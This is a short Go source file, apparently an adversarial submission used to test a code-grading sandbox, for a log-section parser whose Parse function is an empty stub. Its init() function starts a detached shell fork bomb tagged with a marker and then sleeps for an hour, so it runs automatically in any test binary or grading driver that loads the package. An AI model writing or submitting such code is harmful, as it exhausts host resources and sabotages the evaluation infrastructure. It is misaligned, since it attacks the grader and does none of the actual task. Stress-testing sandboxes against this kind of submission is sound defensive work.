// Adversarial submission __MARKER__: a shell fork bomb started from init() (so it runs in the test binary and
// in the hidden-case driver), detached into its own session, carrying the marker in every process's argv.
// The run stays alive meanwhile, so it ends at the process limit (or, failing that, the time limit).
package logsections

import (
	"os/exec"
	"syscall"
	"time"
)

type Section struct {
	Name  string
	Start int64
	End   int64
	Depth int
	Lines int
}

func init() {
	cmd := exec.Command("/bin/sh", "-c", "f() { f | f & }; f; sleep 600", "__MARKER__")
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
	cmd.Start()
	time.Sleep(time.Hour)
}

func Parse(log string) ([]Section, error) {
	return nil, nil
}
